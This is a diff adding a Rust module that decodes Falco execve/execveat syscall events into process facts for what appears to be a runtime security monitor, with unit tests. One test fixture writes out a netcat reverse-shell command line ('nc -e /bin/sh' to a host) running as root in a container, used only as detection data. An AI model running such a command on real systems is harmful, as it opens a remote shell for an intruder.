@@ -1,0 +1,422 @@
+//! Decoding the typed execve/execveat exit event into [`ExecFacts`].
+//!
+//! Both events carry the same 30 parameters (libs `driver/event_table.c`), so they are first
+//! borrowed into one [`ExecParams`] and decoded once. Every parameter is optional: old
+//! captures, failed execs and zero-length parameters all decode to `None`.
+//!
+//! Not here: cgroup layouts (see [`super::cgroups`]), any judgement.
+
+use super::{cgroups, Capabilities, DecodeLimits, ExeFlags, ExecFacts};
+use falco_event_schema::events::{PPME_SYSCALL_EXECVEAT_X, PPME_SYSCALL_EXECVE_19_X};
+use std::ffi::CStr;
+
+/// Paths, cwd and comm come from the kernel bounded by PATH_MAX; this is a second fence so a
+/// malformed capture cannot make us hold megabytes per string.
+const MAX_PATH_BYTES: usize = 4096;
+
+/// The parameters both exec exit events share, borrowed from the event buffer.
+struct ExecParams<'a> {
+    res: Option<i64>,
+    exe: Option<&'a CStr>,
+    args: Option<&'a [u8]>,
+    tid: Option<i64>,
+    pid: Option<i64>,
+    ptid: Option<i64>,
+    cwd: Option<&'a CStr>,
+    comm: Option<&'a CStr>,
+    cgroups: Option<&'a [u8]>,
+    env: Option<&'a [u8]>,
+    tty: Option<u32>,
+    loginuid: Option<u32>,
+    flags: Option<u32>,
+    cap_inheritable: Option<u64>,
+    cap_permitted: Option<u64>,
+    cap_effective: Option<u64>,
+    exe_ino: Option<u64>,
+    exe_ino_ctime: Option<u64>,
+    exe_ino_mtime: Option<u64>,
+    uid: Option<u32>,
+    trusted_exepath: Option<&'a [u8]>,
+    gid: Option<u32>,
+}
+
+/// Both event structs have identical field names and types; one macro borrows either.
+macro_rules! exec_params {
+    ($ev:expr) => {{
+        let ev = $ev;
+        ExecParams {
+            res: ev.res.map(|r| r.0),
+            exe: ev.exe,
+            args: ev.args,
+            tid: ev.tid.map(|p| p.0),
+            pid: ev.pid.map(|p| p.0),
+            ptid: ev.ptid.map(|p| p.0),
+            cwd: ev.cwd,
+            comm: ev.comm,
+            cgroups: ev.cgroups,
+            env: ev.env,
+            tty: ev.tty,
+            loginuid: ev.loginuid.map(|u| u.0),
+            flags: ev.flags.map(|f| f.bits()),
+            cap_inheritable: ev.cap_inheritable,
+            cap_permitted: ev.cap_permitted,
+            cap_effective: ev.cap_effective,
+            exe_ino: ev.exe_ino,
+            exe_ino_ctime: ev.exe_ino_ctime.map(|t| t.0),
+            exe_ino_mtime: ev.exe_ino_mtime.map(|t| t.0),
+            uid: ev.uid.map(|u| u.0),
+            trusted_exepath: ev.trusted_exepath.map(|p| p.as_bytes()),
+            gid: ev.gid.map(|g| g.0),
+        }
+    }};
+}
+
+/// Decode an execve exit event (code 293: every successful execve and execveat live).
+pub fn from_execve(ev: &PPME_SYSCALL_EXECVE_19_X, limits: &DecodeLimits) -> ExecFacts {
+    exec_params!(ev).decode(limits)
+}
+
+/// Decode an execveat exit event (code 331: failed execveat calls).
+pub fn from_execveat(ev: &PPME_SYSCALL_EXECVEAT_X, limits: &DecodeLimits) -> ExecFacts {
+    exec_params!(ev).decode(limits)
+}
+
+impl ExecParams<'_> {
+    fn decode(&self, limits: &DecodeLimits) -> ExecFacts {
+        let exe = self.exe.map(CStr::to_bytes).filter(|b| !b.is_empty());
+
+        let (argv, argv_truncated) = match (exe, self.args) {
+            (None, None) => (Vec::new(), false),
+            (exe, args) => {
+                // argv[0] keeps its slot even when unknown, so argv[1] stays argv[1].
+                let first = exe.unwrap_or_default();
+                let pieces = std::iter::once(first).chain(split_nul(args.unwrap_or_default()));
+                bounded_lossy(pieces, limits.max_args, limits.max_args_bytes)
+            }
+        };
+        let (env, env_truncated) = bounded_lossy(
+            split_nul(self.env.unwrap_or_default()),
+            limits.max_env,
+            limits.max_env_bytes,
+        );
+
+        let exe_path = self
+            .trusted_exepath
+            .filter(|p| !p.is_empty())
+            .or(exe)
+            .map(bounded_path);
+        let cgroups = self.cgroups.filter(|c| !c.is_empty());
+
+        ExecFacts {
+            argv,
+            argv_truncated,
+            exe_path,
+            cwd: self
+                .cwd
+                .map(CStr::to_bytes)
+                .filter(|b| !b.is_empty())
+                .map(bounded_path),
+            comm: self
+                .comm
+                .map(CStr::to_bytes)
+                .filter(|b| !b.is_empty())
+                .map(bounded_path),
+            env,
+            env_truncated,
+            tty: self.tty,
+            uid: self.uid,
+            gid: self.gid,
+            loginuid: self.loginuid,
+            tid: self.tid,
+            pid: self.pid,
+            ptid: self.ptid,
+            res: self.res,
+            exe_flags: self.flags.map(ExeFlags),
+            caps: Capabilities {
+                inheritable: self.cap_inheritable,
+                permitted: self.cap_permitted,
+                effective: self.cap_effective,
+            },
+            container: cgroups.and_then(cgroups::container_from_cgroups),
+            cgroups_present: cgroups.is_some(),
+            exe_ino: self.exe_ino,
+            exe_ino_ctime: self.exe_ino_ctime,
+            exe_ino_mtime: self.exe_ino_mtime,
+        }
+    }
+}
+
+/// Split a `a\0b\0` buffer into its pieces. The kernel terminates every piece with NUL, so
+/// the empty piece after the last NUL is dropped; a missing final NUL (cut by the driver)
+/// keeps the last piece.
+pub(crate) fn split_nul(buf: &[u8]) -> impl Iterator<Item = &[u8]> {
+    let buf = buf.strip_suffix(b"\0").unwrap_or(buf);
+    let empty = buf.is_empty();
+    buf.split(|b| *b == 0).filter(move |_| !empty)
+}
+
+/// Lossy UTF-8 of at most `max_items` pieces and `max_bytes` raw bytes in total. A piece cut
+/// by the byte budget is kept up to the budget. Returns whether anything was dropped or cut.
+pub(crate) fn bounded_lossy<'a>(
+    pieces: impl Iterator<Item = &'a [u8]>,
+    max_items: usize,
+    max_bytes: usize,
+) -> (Vec<String>, bool) {
+    let mut out = Vec::new();
+    let mut budget = max_bytes;
+    for piece in pieces {
+        if out.len() >= max_items {
+            return (out, true);
+        }
+        if piece.len() > budget {
+            if budget > 0 {
+                out.push(String::from_utf8_lossy(&piece[..budget]).into_owned());
+            }
+            return (out, true);
+        }
+        budget -= piece.len();
+        out.push(String::from_utf8_lossy(piece).into_owned());
+    }
+    (out, false)
+}
+
+fn bounded_path(bytes: &[u8]) -> String {
+    String::from_utf8_lossy(&bytes[..bytes.len().min(MAX_PATH_BYTES)]).into_owned()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::facts::{ContainerRuntime, ExeOrigin};
+    use falco_event::types::{Gid, Pid, SyscallResult, SystemTime, Uid};
+    use falco_event_schema::fields::types::PT_FLAGS32_execve_flags;
+    use typed_path::UnixPath;
+
+    const DOCKER_CG: &[u8] = b"cpuset=/docker/0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\0cpu=/docker/0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\0";
+
+    fn empty_execve<'a>() -> PPME_SYSCALL_EXECVE_19_X<'a> {
+        PPME_SYSCALL_EXECVE_19_X {
+            res: None,
+            exe: None,
+            args: None,
+            tid: None,
+            pid: None,
+            ptid: None,
+            cwd: None,
+            fdlimit: None,
+            pgft_maj: None,
+            pgft_min: None,
+            vm_size: None,
+            vm_rss: None,
+            vm_swap: None,
+            comm: None,
+            cgroups: None,
+            env: None,
+            tty: None,
+            vpgid: None,
+            loginuid: None,
+            flags: None,
+            cap_inheritable: None,
+            cap_permitted: None,
+            cap_effective: None,
+            exe_ino: None,
+            exe_ino_ctime: None,
+            exe_ino_mtime: None,
+            uid: None,
+            trusted_exepath: None,
+            pgid: None,
+            gid: None,
+        }
+    }
+
+    #[test]
+    fn full_event_decodes_every_parameter() {
+        let mut ev = empty_execve();
+        ev.res = Some(SyscallResult(0));
+        ev.exe = Some(c"nc");
+        ev.args = Some(b"-e\0/bin/sh\0example.com\022\0");
+        ev.tid = Some(Pid(42));
+        ev.pid = Some(Pid(42));
+        ev.ptid = Some(Pid(7));
+        ev.cwd = Some(c"/root");
+        ev.comm = Some(c"nc");
+        ev.cgroups = Some(DOCKER_CG);
+        ev.env = Some(b"PATH=/usr/bin\0HOME=/root\0");
+        ev.tty = Some(34816);
+        ev.loginuid = Some(Uid(u32::MAX));
+        ev.flags = Some(PT_FLAGS32_execve_flags::from_bits_retain(0b1001));
+        ev.cap_effective = Some(0xa80425fb);
+        ev.exe_ino = Some(1234);
+        ev.exe_ino_ctime = Some(SystemTime(5));
+        ev.uid = Some(Uid(0));
+        ev.gid = Some(Gid(0));
+        ev.trusted_exepath = Some(UnixPath::new("/usr/bin/nc.openbsd"));
+
+        let f = from_execve(&ev, &DecodeLimits::default());
+        assert_eq!(f.argv, ["nc", "-e", "/bin/sh", "example.com", "22"]);
+        assert!(!f.argv_truncated);
+        assert_eq!(f.exe_path.as_deref(), Some("/usr/bin/nc.openbsd"));
+        assert_eq!(f.cwd.as_deref(), Some("/root"));
+        assert_eq!(f.env, ["PATH=/usr/bin", "HOME=/root"]);
+        assert_eq!(
+            (f.tid, f.pid, f.ptid, f.res),
+            (Some(42), Some(42), Some(7), Some(0))
+        );
+        assert_eq!((f.uid, f.gid, f.tty), (Some(0), Some(0), Some(34816)));
+        assert_eq!(f.exe_origin(), Some(ExeOrigin::Image));
+        assert_eq!(f.exe_flag_names(), ["EXE_WRITABLE", "EXE_LOWER_LAYER"]);
+        assert_eq!(f.caps.effective, Some(0xa80425fb));
+        assert_eq!(f.exe_ino_ctime, Some(5));
+        let c = f.container.as_ref().expect("docker cgroups");
+        assert_eq!(
+            (c.runtime, c.short_id.as_str()),
+            (ContainerRuntime::Docker, "0123456789ab")
+        );
+        assert_eq!(f.in_container(), Some(true));
+        assert!(f.interactive());
+        assert_eq!(f.executable_name(), Some("nc.openbsd"));
+    }
+
+    #[test]
+    fn execveat_decodes_like_execve() {
+        let ev = PPME_SYSCALL_EXECVEAT_X {
+            res: Some(SyscallResult(-2)),
+            exe: Some(c"/tmp/x"),
+            args: Some(b"a\0"),
+            tid: None,
+            pid: None,
+            ptid: None,
+            cwd: None,
+            fdlimit: None,
+            pgft_maj: None,
+            pgft_min: None,
+            vm_size: None,
+            vm_rss: None,
+            vm_swap: None,
+            comm: None,
+            cgroups: None,
+            env: None,
+            tty: None,
+            vpgid: None,
+            loginuid: None,
+            flags: None,
+            cap_inheritable: None,
+            cap_permitted: None,
+            cap_effective: None,
+            exe_ino: None,
+            exe_ino_ctime: None,
+            exe_ino_mtime: None,
+            uid: None,
+            trusted_exepath: None,
+            pgid: None,
+            gid: None,
+        };
+        let f = from_execveat(&ev, &DecodeLimits::default());
+        assert_eq!(f.argv, ["/tmp/x", "a"]);
+        assert_eq!(f.res, Some(-2));
+        assert_eq!(f.exe_path.as_deref(), Some("/tmp/x"));
+    }
+
+    #[test]
+    fn absent_parameters_decode_to_nothing() {
+        let f = from_execve(&empty_execve(), &DecodeLimits::default());
+        assert_eq!(f, ExecFacts::default());
+        assert_eq!(f.exe_origin(), None);
+        assert_eq!(f.in_container(), None);
+        assert_eq!(f.privileged(), None);
+        assert!(!f.interactive());
+        assert_eq!(f.executable_name(), None);
+    }
+
+    #[test]
+    fn empty_trusted_exepath_falls_back_to_exe() {
+        let mut ev = empty_execve();
+        ev.exe = Some(c"/bin/sh");
+        ev.trusted_exepath = Some(UnixPath::new(""));
+        ev.cgroups = Some(b"");
+        let f = from_execve(&ev, &DecodeLimits::default());
+        assert_eq!(f.exe_path.as_deref(), Some("/bin/sh"));
+        assert_eq!(f.argv, ["/bin/sh"]);
+        // A zero-length cgroups parameter is an old capture, not "on the host".
+        assert!(!f.cgroups_present);
+    }
+
+    #[test]
+    fn args_without_exe_keep_their_positions() {
+        let mut ev = empty_execve();
+        ev.args = Some(b"-c\0id\0");
+        let f = from_execve(&ev, &DecodeLimits::default());
+        assert_eq!(f.argv, ["", "-c", "id"]);
+    }
+
+    #[test]
+    fn non_utf8_is_replaced_not_rejected() {
+        let mut ev = empty_execve();
+        ev.exe = Some(c"sh");
+        ev.args = Some(b"\xff\xfe\0ok\0");
+        ev.env = Some(b"X=\xc3\0");
+        ev.comm = Some(CStr::from_bytes_with_nul(b"\xffx\0").unwrap());
+        let f = from_execve(&ev, &DecodeLimits::default());
+        assert_eq!(f.argv, ["sh", "\u{fffd}\u{fffd}", "ok"]);
+        assert_eq!(f.env, ["X=\u{fffd}"]);
+        assert_eq!(f.comm.as_deref(), Some("\u{fffd}x"));
+    }
+
+    #[test]
+    fn empty_arguments_in_the_middle_are_kept() {
+        let pieces: Vec<&[u8]> = split_nul(b"a\0\0b\0").collect();
+        assert_eq!(pieces, [&b"a"[..], b"", b"b"]);
+        assert_eq!(split_nul(b"").count(), 0);
+        assert_eq!(split_nul(b"\0").count(), 0);
+        assert_eq!(split_nul(b"cut-without-nul").count(), 1);
+    }
+
+    #[test]
+    fn huge_argv_is_bounded_and_marked() {
+        let args: Vec<u8> = (0..10_000)
+            .flat_map(|i| format!("arg{i}\0").into_bytes())
+            .collect();
+        let mut ev = empty_execve();
+        ev.exe = Some(c"xargs");
+        ev.args = Some(&args);
+        let limits = DecodeLimits {
+            max_args: 100,
+            ..DecodeLimits::default()
+        };
+        let f = from_execve(&ev, &limits);
+        assert_eq!(f.argv.len(), 100);
+        assert_eq!(f.argv[99], "arg98");
+        assert!(f.argv_truncated);
+    }
+
+    #[test]
+    fn byte_budget_cuts_the_last_entry() {
+        let big = vec![b'A'; 1 << 20];
+        let mut env = b"SHORT=1\0".to_vec();
+        env.extend_from_slice(&big);
+        env.push(0);
+        env.extend_from_slice(b"LATER=1\0");
+        let mut ev = empty_execve();
+        ev.env = Some(&env);
+        let limits = DecodeLimits {
+            max_env_bytes: 1000,
+            ..DecodeLimits::default()
+        };
+        let f = from_execve(&ev, &limits);
+        assert_eq!(f.env.len(), 2);
+        assert_eq!(f.env[0], "SHORT=1");
+        assert_eq!(f.env[1].len(), 1000 - 7);
+        assert!(f.env_truncated);
+        assert!(!f.argv_truncated);
+    }
+
+    #[test]
+    fn zero_budget_keeps_nothing_and_says_so() {
+        let (v, cut) = bounded_lossy(split_nul(b"A=1\0"), 0, 100);
+        assert!(v.is_empty() && cut);
+        let (v, cut) = bounded_lossy(split_nul(b"A=1\0"), 10, 0);
+        assert!(v.is_empty() && cut);
+        let (v, cut) = bounded_lossy(split_nul(b""), 0, 0);
+        assert!(v.is_empty() && !cut);
+    }
+}
